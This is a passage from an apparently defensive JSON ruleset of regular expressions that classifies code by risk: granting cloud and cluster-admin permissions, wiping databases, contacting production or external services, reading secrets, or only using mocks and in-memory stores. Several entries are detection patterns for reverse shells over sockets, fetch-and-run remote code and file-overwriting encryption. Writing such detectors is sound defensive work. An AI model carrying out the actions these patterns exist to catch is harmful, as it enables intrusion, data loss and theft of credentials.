d_?)?secret(?:_?for_?all_?namespaces)?$","i"],"granting-methods":["^(?:attach|put)_?(?:user|role|group)_?policy(?:_?command)?$|^authorize_?security_?group_?ingr\
ess(?:_?command)?$|^(?:create_?access_?key|add_?user_?to_?group|put_?bucket_?(?:policy|acl))(?:_?command)?$","i"],"emptying-methods":["^(?:empty|obliterate|clea\
r|drop|flush_?(?:all|db|database))(?:_?(?:async|sync))?$|^(?:refresh|drop|reset|clear|wipe|truncate|purge)_?(?:all|db|database|schema|tables?|collections?|stora\
ge)(?:_?(?:async|sync))?$","i"],"own-addresses":["\\\\blocalhost\\\\b|\\\\b127\\\\.\\\\d|\\\\b0\\\\.0\\\\.0\\\\.0\\\\b|\\\\[?::1\\\\b|^(?:unix|file|sqlite):|^\\\\.{0,2}/"],"service-optio\
ns":["api_?key|token|secret|credential|password|authorization|access_?key|^(?:basic_?)?auth$|^endpoint$|^(?:base|prefix|org|server|api)_?ur[li]$|^(?:hosts?|serv\
ers?|brokers|bootstrap_?servers)$|(?:project|account|subscription|site|space|app|tenant)_?id$","i"],"service-variables":["TOKEN|KEY|SECRET|PASS|PAT$|AUTH|CRED|A\
CCOUNT|ENDPOINT|DSN|(?:UR[LI]|HOST|_ID|SID|DOMAIN|SERVER)$"],"service-addresses":["^(?:https?|wss?|grpcs?|nats|amqps?|ldaps?)://[^/]|^(?:[\\\\w-]+\\\\.)+(?:com|net|\
org|io|dev|local|internal|cloud|corp)(?::\\\\d+)?$|^\\\\d+\\\\.\\\\d+\\\\.\\\\d+\\\\.\\\\d+(?::\\\\d+)?$"],"own-data-modules":["^(?:\\\\.{1,2}|@|~)/(?:[\\\\w./-]*[/.-])?(?:db|databas\
e|data-?source|orm|prisma|knex|sequelize|mongoose|models?)(?:[/.-]|$)","i"],"client-makers":["^[A-Z]|^(?:create|connect|init|make|open|new|from|extend|with|get_\
?client)|(?:client|driver|session|pool|engine|connection|sdk|api)$","i"],"negative-tests":["\\\\bnot\\\\b|!=|!~|!\\\\s*\\\\(?[\\\\w.]+|\\\\bunless\\\\b|\\\\breject\\\\b"],"skips"\
:["\\\\b(?:continue|next|return)\\\\b"],"stdin-names":["^(?:0|-|/dev/(?:stdin|fd/0)|/proc/self/fd/0|php://stdin)$"],"mock-options":["^(?:spec|spec_set|autospec|crea\
te|name|unsafe|new_callable|target|attribute|new)$"],"writing-flags":["^File\\\\.(?:Constants\\\\.)?(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$|^(?:os|fs\\\\.constants|consta\
nts)?\\\\.?O_(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$"],"sending-methods":["gist|upload|put_?object|comment|send|post","i"],"deleting-requests":["^DELETE(?: /|$)|\\\\bmu\
tation\\\\b[\\\\s\\\\S]*(?:\\\\bdelete|Delete)\\\\w*\\\\s*\\\\("],"place-options":["ur[li]|host|server|endpoint|address|database|^db|file|storage|^path$|dsn","i"],"passing-da\
ta":["^memory://|:memory:|^(?:sqlite\\\\w*(?:\\\\+\\\\w+)?:/{2,3})?/tmp/|^sqlite://$|^mock$"],"passing-databases":["^(?::memory:$|/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.\
))|^(?:[\\\\w.-]+/)*(?:test|tests|tmp|scratch)(?:[_-][\\\\w-]*)?\\\\.(?:db|sqlite3?)$"],"harmless-names":["^(?:None|null|undefined|true|false|True|False|(?:\\\\w+\\\\.)*\\\
\\w*(?:Error|Exception|DEFAULT|Exit|Interrupt))$"],"file-calls":["^(?:os\\\\.(?:remove|unlink|rmdir|removedirs|rename|replace|truncate)|shutil\\\\.\\\\w+|pathlib\\\\.\\\\w\
+)$"],"imitation":["^[^#\\\\n]*(?:\\\\b(?:import|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:fakeredis|mongomock|pymongo_inmemory|ioredis-mock|redis-mock)\\\\b|^[^#\\\\n]*(?:\\\\b(\
?:import|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:mongodb-memory-server|pg-mem|testcontainers)\\\\b|^from sqlalchemy import .*\\\\bcreate_mock_engine\\\\b|\\\\b(?:miniredis\\\\.\
(?:Run|RunT|NewMiniRedis)|sqlmock\\\\.New|pgxmock\\\\.New\\\\w*|redismock\\\\.New\\\\w*)\\\\(|^(?![\\\\s\\\\S]*\\\\b(?:DBI|dbi):(?!Mock\\\\b))[\\\\s\\\\S]*\\\\b(?:DBI|dbi):Mock:","m"],"l\
inks-repositories":["worktree|symlink|gitdir|git-dir|\\\\.git['\\"]"],"own-folder":["getcwd|\\\\bcwd\\\\(|__dirname|__file__|abspath|resolve|pwd"],"in-memory":["['\\"](\
?:sqlite3?:(?:\\\\/\\\\/)?|(?:dbi|DBI):SQLite:(?:dbname=)?)\\\\/(?:tmp|var\\\\/tmp|dev\\\\/shm)\\\\/(?![^'\\"]*\\\\.\\\\.)|['\\"](?:Data ?Source=)?[\\\\w:=/+]*:memory:['\\";]|['\\"]j\
dbc:(?:h2|hsqldb|derby|sqlite)::?mem|\\\\bSQLite\\\\.DB\\\\(\\\\s*\\\\)|\\\\bSequel\\\\.sqlite\\\\b(?!\\\\s*\\\\(?\\\\s*['\\"])|['\\"]sqlite:\\\\/\\\\/['\\"]"],"database":["\\\\b(?:mongodb|po\
stgres|mysql|mariadb|redis|rediss|mssql|oracle)\\\\w*(?:\\\\+\\\\w+)?:\\\\/\\\\/|['\\"](?!django)[\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]","i"],"driver":["\\\\b(?:psycopg\\\\d?|asyncp\
g|aiopg|pymysql|MySQLdb|mysql2?|mariadb|cx_Oracle|oracledb|pyodbc|pymssql|pymongo|motor)\\\\b|\\\\b(?:mongoose|mongodb|ioredis|snowflake|clickhouse\\\\w*|DATABASE_URL\
|DB_URL)\\\\b|['\\"]pg['\\"]"],"own-connection":["(?:^|[\\\\n;])\\\\s*(?:from|import)\\\\s+(?!(?:sqlalchemy|sqlmodel|sqlite3|aiosqlite|tempfile|os|sys|pathlib|shutil|json\
|re|time|datetime|contextlib|asyncio|typing|uuid|random|pytest|unittest|pandas|dataclasses|textwrap|subprocess|logging|decimal|enum|collections|itertools|functo\
ols|alembic)\\\\b)\\\\w|['\\"](?:\\\\.{1,2}|@|~)\\\\/|\\\\bargv\\\\b|\\\\bsymlink|\\\\(\\\\s*['\\"][\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]|(?:sqlite3|apsw)\\\\.Connection|SqliteDatabase"],"\
emulated":["^(?![\\\\s\\\\S]*https?:\\\\/\\\\/(?!localhost|127\\\\.))[\\\\s\\\\S]*(?:UseDevelopmentStorage=true|\\\\bapi_base\\\\b[^\\\\n]*['\\"]http:\\\\/\\\\/(?:localhost|127\\\\.))"],"\
data-library":["(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:mikro-orm|typeorm|prisma|sequelize|drizzle|kysely|objection|bookshelf|peewee)|(?:import|from\
|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:tortoise|pony|sqlalchemy|sqlmodel|databases|neo4j|cassandra)|(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:rethinkdb\
|surrealdb|influx|libsql|neon|planetscale|duckdb|rq|bull)|\\\\b\\\\w*(?:DATABASE|DB|MONGO|REDIS|POSTGRES|PG|MYSQL)_?(?:URL|URI|DSN)\\\\b","i"],"database-address":["^(\
?![\\\\s\\\\S]*['\\"]sqlite:)[\\\\s\\\\S]*(?:\\\\w:\\\\/\\\\/|D(?:ATA)?B(?:ASE)?_UR[IL]\\\\b)"],"attaches":["\\\\bATTACH\\\\b","i"],"key-store":["redis|valkey|keydb|memcache","i"],"\
unconditional":["^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|next|select|reject|filter|break|limit|take|first|case)\\\\b|\\\\?))[\\\\s\\\\S]*\\\\w"],"http-client":["^(?!(?:(?![\\\\s\\\\S\
]*(?:new [\\\\w\\\\\\\\]*Client\\\\b[\\\\s\\\\S]*){2})[\\\\s\\\\S]*\\\\bMock(?:Handler|HttpClient|Response)\\\\b)|[\\\\s\\\\S]*\\\\bHttp::fake\\\\b)[\\\\s\\\\S]*\\\\b(?:GuzzleHttp|HttpClient)\\\\b\
"],"stubbed-services":["^(?![\\\\s\\\\S]*(?:Client|Resource)\\\\.new\\\\b(?!\\\\([^)]*\\\\bstub_responses: true\\\\b))[\\\\s\\\\S]*\\\\bstub_responses: true\\\\b"],"stubbed-requests"\
:["^(?![\\\\s\\\\S]*(?:axios|(?:node|cross)-fetch|superagent|needle|\\\\bky\\\\b|request['\\"]|phin|bent|wretch|['\\"](?:got|https?|http2|net|node:\\\\w+|child_process)['\\"\
]|enableNetConnect|\\\\bif\\\\b))[\\\\s\\\\S]*\\\\bnew MockAgent\\\\(\\\\)[\\\\s\\\\S]*\\\\bdisableNetConnect\\\\(\\\\)[\\\\s\\\\S]*\\\\bsetGlobalDispatcher\\\\(|^(?![\\\\s\\\\S]*(?:allow_net_conn\
ect|disable!|\\\\bif\\\\b|\\\\bunless\\\\b))(?=[\\\\s\\\\S]*?\\\\brequire [\\"']webmock)(?=[\\\\s\\\\S]*?(?:webmock/(?:rspec|minitest)[\\"']|WebMock\\\\.enable!))[\\\\s\\\\S]*?\\\\bstub_re\
quest\\\\b"],"dry-files":["^(?![\\\\s\\\\S]*\\\\b(?:FileUtils(?:\\\\.|::(?![DN])\\\\w)|include FileUtils(?!::)|(?:class|module)\\\\s|(?:File(?!\\\\.join)|Dir|Pathname)\\\\b))[\\\\s\
\\\\S]*\\\\binclude FileUtils::(?:DryRun|NoWrite)\\\\b"],"lists-processes":["^(?![\\\\s\\\\S]*\\\\b(?:if|select|grep|when|unless|filter)\\\\b[^\\\\n]*\\\\b(?:comm|cmdline|exe|sta\
tus|environ|cwd)\\\\b)[\\\\s\\\\S]*[\\"']/proc(?:[\\"']|/(?:\\\\*|\\\\[|\\\\\\\\d))"],"prints-names":["^(?![\\\\s\\\\S]*(?:\\\\b(?:requests|urllib|https?|fetch|sockets?|smtplib|subpr\
ocess|child_process|popen|system|spawn\\\\w*|exec\\\\w*|eval|compile|__import__|getattr|setattr|globals|vars|write\\\\w*|append\\\\w*|dump\\\\w*|pickle|logg\\\\w+|logging|s\
tdout|stderr|raise|throw|assert|environ|send\\\\w*|post|upload|copy\\\\w*|rename|move|sys|pprint|warn|puts|echo|def|class|lambda|function|function\\\\*|while|reverse\\\
\\w*)\\\\b|import\\\\(|process\\\\.(?!exit)|console\\\\.(?!log\\\\()|open\\\\([^()\\\\n]*,|\\\\b(?!(?:print|open|split|strip|partition|startswith|sorted|list|len|set|join|keys|d\
otenv_values|readlines|read|splitlines|match|search|group|if|in|not|and|or|with)\\\\b)\\\\w+ ?\\\\(|[\\\\w)}\\\\]]\\\\[(?![01]\\\\])|\\\\}\\\\[|\\\\bopen\\\\((?!['\\\\\\"][\\\\w./]+['\\\\\\"\
]\\\\))|:=|\\\\bas (?!f\\\\b)|\\\\bimport (?!re\\\\b|os\\\\b|dotenv)|\\\\bfrom (?!dotenv)|\\\\bfor\\\\b(?! l(?:ine)? in (?:open\\\\(['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\
\\.read\\\\(\\\\)\\\\.splitlines\\\\(\\\\))?|f)(?::| if|[)\\\\]]))|\\\\b(?!(?:maxsplit|sep)\\\\b)(?!(?:keys|names) ?= ?(?:sorted\\\\(|set\\\\()?[\\\\[{(]?l(?:ine)?\\\\.(?:strip\\\\(\\\\)\\\\.\
)?(?:split\\\\(['\\\\\\"]=['\\\\\\"](?:, ?(?:maxsplit=)?1)?\\\\)|partition\\\\(['\\\\\\"]=['\\\\\\"]\\\\))\\\\[0\\\\](?:\\\\.strip\\\\(\\\\))? for l(?:ine)? in (?:open\\\\(['\\\\\\"][\\\\w./]+['\\\\\\\
"]\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\\.read\\\\(\\\\)\\\\.splitlines\\\\(\\\\))?|f)(?: if [^\\\\n;]*)?\\\\n)\\\\w+ ?=(?!=)|\\\\bre\\\\.|\\\\bprint\\\\b(?!\\\\((?:(?:['\\\\\\"][^'\\\\\\"{}%\\\\n]*['\\\\\\"]\\\
\\.join\\\\(|sorted\\\\(|len\\\\(|\\\\*)*(?:keys|names)\\\\)*(?:, ?sep=['\\\\\\"][^'\\\\\\"{}%\\\\n]*['\\\\\\"])?|l(?:ine)?\\\\.(?:strip\\\\(\\\\)\\\\.)?(?:split\\\\(['\\\\\\"]=['\\\\\\"](?:, ?(?:ma\
xsplit=)?1)?\\\\)|partition\\\\(['\\\\\\"]=['\\\\\\"]\\\\))\\\\[0\\\\](?:\\\\.strip\\\\(\\\\))?|\\\\[l(?:ine)?\\\\.(?:strip\\\\(\\\\)\\\\.)?(?:split\\\\(['\\\\\\"]=['\\\\\\"](?:, ?(?:maxsplit=)?1)?\\\\)\
|partition\\\\(['\\\\\\"]=['\\\\\\"]\\\\))\\\\[0\\\\](?:\\\\.strip\\\\(\\\\))? for l(?:ine)? in (?:open\\\\(['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\\.read\\\\(\\\\)\\\\.splitlines\\\
\\(\\\\))?|f)(?: if [^()\\\\n]*)?\\\\]|(?:sorted|list|len|set)\\\\((?:l(?:ine)?\\\\.(?:strip\\\\(\\\\)\\\\.)?(?:split\\\\(['\\\\\\"]=['\\\\\\"](?:, ?(?:maxsplit=)?1)?\\\\)|partition\\\\(['\\\
\\\\"]=['\\\\\\"]\\\\))\\\\[0\\\\](?:\\\\.strip\\\\(\\\\))? for l(?:ine)? in (?:open\\\\(['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\\.read\\\\(\\\\)\\\\.splitlines\\\\(\\\\))?|f)(?: if\
 [^()\\\\n]*)?|dotenv_values\\\\(['\\\\\\"][\\\\w./]*['\\\\\\"]\\\\)(?:\\\\.keys\\\\(\\\\))?)\\\\)|\\\\*?(?:sorted|list)\\\\(dotenv_values\\\\(['\\\\\\"][\\\\w./]*['\\\\\\"]\\\\)(?:\\\\.keys\\\\(\\\\))?\\\\\
), ?sep=['\\\\\\"][^'\\\\\\"{}%\\\\n]*['\\\\\\"]|['\\\\\\"][^'\\\\\\"{}%\\\\n]*['\\\\\\"]\\\\.join\\\\((?:sorted\\\\()?(?:dotenv_values\\\\(['\\\\\\"][\\\\w./]*['\\\\\\"]\\\\)(?:\\\\.keys\\\\(\\\\))?|l(?:in\
e)?\\\\.(?:strip\\\\(\\\\)\\\\.)?(?:split\\\\(['\\\\\\"]=['\\\\\\"](?:, ?(?:maxsplit=)?1)?\\\\)|partition\\\\(['\\\\\\"]=['\\\\\\"]\\\\))\\\\[0\\\\](?:\\\\.strip\\\\(\\\\))? for l(?:ine)? in (?:open\
\\\\(['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\\.read\\\\(\\\\)\\\\.splitlines\\\\(\\\\))?|f)(?: if [^()\\\\n]*)?)\\\\)?\\\\)|['\\\\\\"][^'\\\\\\"{}%\\\\n]*['\\\\\\"])\\\\)\\\\s*(?:$|[\\\\n\
;]))))[\\\\s\\\\S]*\\\\bprint\\\\(|^(?![\\\\s\\\\S]*(?:\\\\b(?:requests|urllib|https?|fetch|sockets?|smtplib|subprocess|child_process|popen|system|spawn\\\\w*|exec\\\\w*|eval|com\
pile|__import__|getattr|setattr|globals|vars|write\\\\w*|append\\\\w*|dump\\\\w*|pickle|logg\\\\w+|logging|stdout|stderr|raise|throw|assert|environ|send\\\\w*|post|upload\
|copy\\\\w*|rename|move|sys|pprint|warn|puts|echo|def|class|lambda|function|function\\\\*|while|reverse\\\\w*)\\\\b|import\\\\(|process\\\\.(?!exit)|console\\\\.(?!log\\\\()|op\
en\\\\([^()\\\\n]*,|\\\\b(?!(?:print|open|split|strip|partition|startswith|sorted|list|len|set|join|keys|dotenv_values|readlines|read|splitlines|match|search|group|if\
|in|not|and|or|with)\\\\b)\\\\w+ ?\\\\(|[\\\\w)}\\\\]]\\\\[(?![01]\\\\])|\\\\}\\\\[|\\\\bopen\\\\((?!['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\))|:=|\\\\bas (?!f\\\\b)|\\\\bimport (?!re\\\\b|os\\\\b|dotenv)|\\\\b\
from (?!dotenv)|\\\\bfor\\\\b(?! l(?:ine)? in (?:open\\\\(['\\\\\\"][\\\\w./]+['\\\\\\"]\\\\)(?:\\\\.readlines\\\\(\\\\)|\\\\.read\\\\(\\\\)\\\\.splitlines\\\\(\\\\))?|f)(?::| if|[)\\\\]]))|\\\\b(?!\
m ?=)\\\\w+ ?=(?!=)|\\\\bm ?=(?! ?re\\\\.)|\\\\bprint\\\\b(?!\\\\(m(?:\\\\.group\\\\(1\\\\)|\\\\[1\\\\])\\\\)\\\\s*(?:$|[\\\\n;]))|\\\\bre\\\\.[\\\\s\\\\S]*\\\\bre\\\\.))(?=[\\\\s\\\\S]*re\\\\.(?:match|sear\
ch)\\\\(r?['\\\\\\"](?:\\\\^|\\\\\\\\s\\\\*|\\\\(\\\\?:export\\\\\\\\s\\\\+\\\\)\\\\?)*\\\\((?:\\\\[[\\\\w-]+\\\\]|\\\\\\\\w)[+*]?(?:\\\\[[\\\\w-]+\\\\][+*]?)?\\\\)(?:\\\\\\\\s\\\\*)?=['\\\\\\"], l(?:ine)?\\\\))[\\\\s\\\\S\
]*\\\\bprint\\\\(|^(?![\\\\s\\\\S]*(?:\\\\b(?:requests|urllib|https?|fetch|sockets?|smtplib|subprocess|child_process|popen|system|spawn\\\\w*|exec\\\\w*|eval|compile|__import\
__|getattr|setattr|globals|vars|write\\\\w*|append\\\\w*|dump\\\\w*|pickle|logg\\\\w+|logging|stdout|stderr|raise|throw|assert|environ|send\\\\w*|post|upload|copy\\\\w*|ren\
ame|move|sys|pprint|warn|puts|echo|def|class|lambda|function|function\\\\*|while|reverse\\\\w*)\\\\b|import\\\\(|process\\\\.(?!exit)|console\\\\.(?!log\\\\()|open\\\\([^()\\\\n]\
*,|\\\\b(?!(?:require|readFileSync|parse|config|keys|log|sort|join|stringify)\\\\b)\\\\w+ ?\\\\(|\\\\]\\\\s?\\\\(|\\\\brequire\\\\((?!['\\\\\\"][\\\\w:/-]+['\\\\\\"]\\\\))|\\\\bparse\\\\((?<!d\
otenv['\\\\\\"]\\\\)\\\\.parse\\\\()(?<!dotenv\\\\.parse\\\\()|\\\\bnew\\\\b|\\\\bdotenv ?=(?! ?require\\\\(['\\\\\\"]dotenv['\\\\\\"]\\\\))|console\\\\.log(?!\\\\((?:JSON\\\\.stringify\\\\()?Objec\
t\\\\.keys\\\\((?:require\\\\(['\\\\\\"]dotenv['\\\\\\"]\\\\)|dotenv)\\\\.(?:parse|config)\\\\([\\\\w.'\\\\\\"(),/:{} -]*\\\\)(?:\\\\.(?:sort|join|length)\\\\b(?:\\\\(['\\\\\\"\\\\\\\\n, ]*\\\\))?)*\\\\\
)?\\\\)\\\\s*(?:$|[\\\\n;]))))[\\\\s\\\\S]*console\\\\.log\\\\("],"leaves-order":["\\\\\\\\\\\\r?\\\\n|\\\\bgoto\\\\b"],"variable-file":["(?:^|/)\\\\.env(?:\\\\.[\\\\w-]+)*$"],"network":["\\\\b(\
?:\\\\w*Socket|socket|net\\\\.(?:Listen|Dial|Conn)|http\\\\.(?:Request|HandleFunc|ListenAndServe)|Tcp(?:Listener|Stream|Client)|gen_tcp|HttpListener|HttpServer)\\\\b"],\
"serves":["\\\\b(?:import|from)\\\\s+(?:flask|bottle|fastapi|starlette|quart|sanic|aiohttp|litestar|robyn)\\\\b"],"respawns":["^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|case|sw\
itch|when|argv|ARGV|environ|env|ENV|sleep|reload|watch\\\\w*)\\\\b|\\\\?|&&))[\\\\s\\\\S]*\\\\b(?:spawn|Popen|popen|fork|exec|execFile|proc_open|Start|start)\\\\w*[ (]{1,3}[^\
;\\\\n]{0,60}(?:execPath|executable|\\\\$\\\\^X|\\\\bruby)\\\\b[^;\\\\n]{0,20}\\\\b(?:__filename|__file__|__FILE__|PROGRAM_NAME)\\\\s?\\\\]?\\\\)|^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|ca\
se|switch|argv)\\\\b|\\\\?|&&))[\\\\s\\\\S]*(?:\\\\bfunction\\\\s{1,3}(\\\\w{1,40})\\\\s?\\\\([^)\\\\n]{0,99}\\\\)|\\\\b(?:const|let|var)\\\\s(\\\\w{1,40})\\\\s?=\\\\s?\\\\([^)\\\\n]{0,99}\\\\)\\\\s?=\
>)\\\\s?\\\\{[^}]{0,200}\\\\b(?:spawn|execFile|exec|fork)\\\\w{0,9}\\\\([^;]{0,100}(?:\\\\+ ?\\\\1\\\\2\\\\b(?! ?\\\\()|\\\\$\\\\{\\\\1\\\\2\\\\}|\\\\b\\\\1\\\\2\\\\.toString\\\\()"],"remote-shell":["\
^(?=[\\\\s\\\\S]*?(?:IO::Socket|\\\\bsocket\\\\s?\\\\())[\\\\s\\\\S]*\\\\$(\\\\w{1,40})\\\\s*=\\\\s*<\\\\$\\\\w{1,40}>[\\\\s\\\\S]{0,400}(?:\\\\b(?:system|exec|qx|readpipe|open)\\\\b|\`)[^;\\\\n]{0\
,40}\\\\$\\\\1\\\\b|^(?=[\\\\s\\\\S]*?(?:createServer|net\\\\.connect|createConnection|net\\\\.Socket|WebSocket))[\\\\s\\\\S]*?\\\\b(?<child>\\\\w{1,40})\\\\s?=\\\\s?(?:[\\\\w.]{0,40}\\\\.)?\
(?:spawn|execFile)\\\\s?\\\\(\\\\s?['\\\\\\"\`](?:/usr)?(?:/bin/)?(?:ba|z|k|da)?sh['\\\\\\"\`][\\\\s\\\\S]{0,2000}?\\\\.pipe\\\\(\\\\s?\\\\k<child>\\\\.stdin|\\\\.(?:get|post|put|patch|all|u\
se)\\\\(\\\\s?['\\\\\\"\`][^'\\\\\\"\`\\\\n]{0,80}['\\\\\\"\`],\\\\s?(?:async\\\\s)?\\\\(?(?<request>\\\\w{1,20})\\\\s?,\\\\s?\\\\w{1,20}\\\\)?\\\\s?=>[\\\\s\\\\S]{0,400}?\\\\b(?:exec|execSync|spawn|spa\
wnSync|eval)\\\\(\\\\s?(?:String\\\\()?\\\\k<request>\\\\.(?:body|query|params)\\\\b|^(?=[\\\\s\\\\S]*?\\\\bnet\\\\.(?:Listen|Dial)\\\\()[\\\\s\\\\S]*\\\\bexec\\\\.Command\\\\(\\\\\\"(?:/usr)?(?:\
/bin/)?(?:ba|z|k|da)?sh\\\\\\"(?:, ?\\\\\\"-i\\\\\\")?\\\\)[\\\\s\\\\S]{0,200}\\\\.Stdin\\\\b[^\\\\n=]{0,60}=\\\\s?\\\\w"],"remote-code":["^(?![\\\\s\\\\S]*\\\\bgem\\\\b)(?:[\\\\s\\\\S]*[;\\\\n])?\\\\s\
{0,9}(?:devtools::)?source(?:_url)?\\\\(\\\\s?['\\\\\\"]https?://|^(?=[\\\\s\\\\S]*?\\\\bfetch\\\\()(?=[\\\\s\\\\S]*?\\\\bimport\\\\(\\\\s?(?<module>['\\\\\\"][^'\\\\\\"\\\\n]{1,200}['\\\\\\"]))[\\\
\\s\\\\S]*\\\\b(?:Bun\\\\.write|writeFile(?:Sync)?|writeTextFile(?:Sync)?)\\\\(\\\\s?\\\\k<module>"],"cluster-admin":["['\\"]cluster-admin['\\"]"],"role-methods":["^(?:create|\
patch|replace)_?(?:cluster_?|namespaced_?)role_?binding$","i"],"sets-names":["\\\\b(?:globals|vars|locals|setattr|exec|eval|extract|reload)\\\\s*\\\\(|\\\\bimport\\\\s+\\\\\
*"],"reads-environment":["\\\\bprocess\\\\.env\\\\b|\\\\bos\\\\.environ|\\\\bgetenv\\\\b"],"reaches-around":["\\\\b(?:patch(?:\\\\.\\\\w+)?|setattr)\\\\([^\\\\n]*\\\\)\\\\s+if\\\\b|\\\\bnullco\
ntext\\\\b|__wrapped__|\\\\[['\\"]\\\\w+['\\"]\\\\]\\\\(|mockImplementation\\\\(\\\\s*\\\\)|\\\\bPause\\\\b|\\\\b(?:globals|vars|locals|exec|eval|reload|__dict__|__builtins__|sys\\\\.mod\
ules|import_module|__import__|_getframe|f_globals|gc\\\\.\\\\w+)\\\\b|\\\\b(?:temp_original|get_original|getOriginal|wrappedMethod|(?:require|import)Actual|importOrigin\
al|require\\\\.cache|createRequire|getBuiltinModule|binding)\\\\b|\\\\bimport\\\\s*\\\\*|\\\\bimport\\\\(\\\\s*(?!['\\"\`][/.])|\\\\bReflect\\\\.|\\\\bObject\\\\.(?:assign|definePropert\\\
\\w+|setPrototypeOf)\\\\(\\\\s*[\\\\w.]+\\\\s*,|\\\\bsyncBuiltin\\\\w+|\\\\bWorker\\\\b|\\\\b(?:def|class|function)\\\\s+(?:patch|mock\\\\w*|\\\\w*Mock|Patcher|Stubber|responses|respx|s\
inon|jest|vi|nock|setupServer)\\\\b|\\\\.(?:patch|object|\\\\w*Mock|spyOn|stub|method|mock_aws|activate|listen|disableNetConnect)\\\\s*=[^=]|\\\\bpatch\\\\s*="],"process-te\
sts":["\\\\b(?:name|cmdline|comm|exe)\\\\b"],"names-processes":["\\\\bif\\\\b[^\\\\n]*\\\\b(?:name|cmdline|cmd|exe|comm)\\\\b"],"several-connections":["(?:(?:create_engine|ne\
wInstance|getConnection|createConnection|new PDO|new DataSource)\\\\s*\\\\([\\\\s\\\\S]*){2}"],"memory-broker":["^(?![\\\\s\\\\S]*(?:conf\\\\b|config|#|\\\\bfrom\\\\s+(?!celery\\\\\
b)|\\\\bimport\\\\s+(?!Celery\\\\b)))[\\\\s\\\\S]*\\\\bCelery\\\\([^)\\\\n]*\\\\bbroker=['\\"]memory://['\\"]"],"connects":["connection|\\\\.{3}|Object\\\\.assign"],"installs-cron":["w\
rite_to_user|user\\\\s*="],"by-user":["\\\\busername\\\\b|\\\\buids?\\\\b|[\\"']\\\\w{0,2}[\\"']\\\\s+(?:not\\\\s+)?in\\\\b|\\\\b(?:includes|[sS]tarts_?[wW]ith|ends_?[wW]ith|find|sea\
rch|match)\\\\(\\\\s*[\\"'/]\\\\w{0,2}[\\"'/]"],"own-settings":["^(?![\\\\s\\\\S]*(?:HOST|database=|using=))[\\\\s\\\\S]*\\\\bsettings\\\\.configure\\\\("],"production":["\\\\bPROD(?:U\
CTION)?_\\\\w*(?:UR[LI]|DSN|DB)\\\\b|://[^'\\"\\\\s]*\\\\bprod(?:uction)?[.-]"],"socket-shell":["^(?=[\\\\s\\\\S]*(?:IO::Socket|\\\\bsocket\\\\s*\\\\())[\\\\s\\\\S]*\\\\bopen\\\\s*\\\\(?\\\\s\
*STDIN\\\\s*,\\\\s*[\\"']?[<>+]{0,2}&"],"repeats":["\\\\b(?:while|for|foreach|until|loop|redo|goto|times|each\\\\w*|upto|downto|step|cycle|map|select|reduce|def|sub|func\
\\\\w*|fn|eval|exec\\\\w*|lambda|class|trap|require|include|load|__FILE__|argv|ARGV)\\\\b|->\\\\s*\\\\{|=>\\\\s*\\\\{|\\\\*\\\\s*\\\\d|\\\\bx\\\\s*\\\\d|\\\\bfork\\\\b(?:[\\\\s\\\\S]*?\\\\bfork\\\\b\
){3}"],"limits":["\\\\bwhere\\\\s*\\\\("],"writes":["\\\\.write|dump|print\\\\s*[{$]|print\\\\([^)\\\\n]*\\\\bfile\\\\s*=|[\\\\w)]\\\\.(?:print|puts)\\\\b|fputs|fprintf|save|copy|pipe|\
send|<<|to_\\\\w+\\\\(|fwrite|Writer"],"secret-names":["['\\"](?:\\\\w*_)?(?:TOKEN|KEY|SECRET|PASSW\\\\w*|PASS)(?:_\\\\w*)?['\\"]|\\\\b(?:TOKEN|SECRET|PASSWORD)\\\\|"],"encrypt\
s":["\\\\.encrypt\\\\(|createCipher|\\\\bcrypt\\\\.|open\\\\((\\\\w+), *[\\"']w[\\"']\\\\)\\\\.write\\\\( *open\\\\(\\\\1\\\\)"],"rolled-back":["^\\\\s*(?:BEGIN(?: TRANSACTION| WORK)?|STAR\
T TRANSACTION);(?:\\\\s*(?:SELECT|INSERT|UPDATE|DELETE|SAVEPOINT|EXPLAIN|WITH)\\\\s[^;\\\\\\\\]*;)*\\\\s*ROLLBACK;?\\\\s*$","i"],"keeps-real":["pause|pass_?thr|add_real|rea\
l_http|resume|session\\\\s*=|skip_names|modules_to_|use_known|use_cache|deactivate"],"other-imports":["^\\\\s*(?:from|import) (?!boto|moto|(?:os|sys|json|re|pytest|\
datetime)\\\\b)|^\\\\s*import [^\\\\n]*,\\\\s*(?!boto|moto|(?:os|sys|json|re)\\\\b)","m"],"several-clients":["(?:boto3\\\\.(?:client|resource)\\\\([\\\\s\\\\S]*){2}"],"other-requ\
ests":["\\\\b(?:httpx|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b"],"other-files":["^(?:import|from) (?:posix|nt|ctypes|_)","m"],"besides-httpx":["\\\\b(?:re\
quests|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b|assert_all_mocked|\\\\busing\\\\b|rollback"],"besides-fetch":["passthrough|bypass|['\\"](?:node:)?(?:net|tl\
s|dgram|http2)['\\"]|socket"],"besides-http":["enableNetConnect|restore|allowUnmocked|passthrough|\\\\bback\\\\b|recorder|NOCK_OFF|adapter|undici|superagent|http2|['\
